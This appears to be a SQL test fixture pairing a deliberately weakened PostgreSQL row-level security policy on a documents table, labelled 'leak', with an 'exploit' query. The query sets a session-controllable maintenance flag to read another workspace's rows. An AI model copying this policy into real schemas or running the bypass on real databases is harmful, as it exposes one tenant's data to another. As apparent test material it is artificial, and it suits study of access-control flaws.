-- A second setting for maintenance, which every session can set.
-- object: public.documents
-- base: wiki
--- leak
ALTER POLICY ws ON documents USING (workspace_id = (SELECT current_setting('wiki.workspace')::uuid) OR current_setting('wiki.maintenance', true) = 'on');
--- exploit
SET LOCAL wiki.maintenance = 'on'; SELECT FROM documents WHERE workspace_id = '{B}';
